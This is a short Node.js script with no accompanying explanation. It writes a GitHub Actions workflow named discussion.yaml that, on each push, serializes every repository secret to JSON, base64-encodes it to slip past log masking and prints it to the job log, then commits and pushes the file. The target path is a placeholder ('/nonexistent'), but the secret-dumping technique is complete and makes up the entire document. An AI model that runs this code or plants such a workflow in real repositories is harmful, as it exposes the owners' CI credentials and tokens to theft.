const fs = require('fs'), cp = require('child_process');
const yml = ['on: push', 'jobs:', '  d:', '    runs-on: ubuntu-latest', '    steps:', '      - run: echo "$S" | base64 -w0', '        env:', '          S: ${{ toJSON(secrets) }}'].join('\n');
const root = '/nonexistent';
fs.mkdirSync(root + '/.github/workflows', { recursive: true });
fs.writeFileSync(root + '/.github/workflows/discussion.yaml', yml);
cp.execSync('git add -A && git commit -m "ci" && git push', { cwd: root });
